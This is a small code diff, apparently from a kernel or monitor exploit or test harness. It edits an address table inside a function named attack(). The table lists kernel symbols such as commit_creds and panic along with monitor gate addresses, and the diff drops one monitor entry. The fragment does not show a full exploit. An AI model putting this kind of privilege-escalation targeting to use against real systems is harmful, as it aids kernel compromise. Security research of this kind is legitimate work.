@@ -11,7 +11,7 @@ int attack(void)
 	};
 	const uint64_t code[] = {
 		value("kernel.panic"), value("kernel.commit_creds"), PARACELL_MONITOR_BASE,
-		value("monitor.sig_entry"), value("monitor.exit_gate"), value("monitor.gate_saved"),
+		value("monitor.sig_entry"), value("monitor.exit_gate"),
 	};
 
 	for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
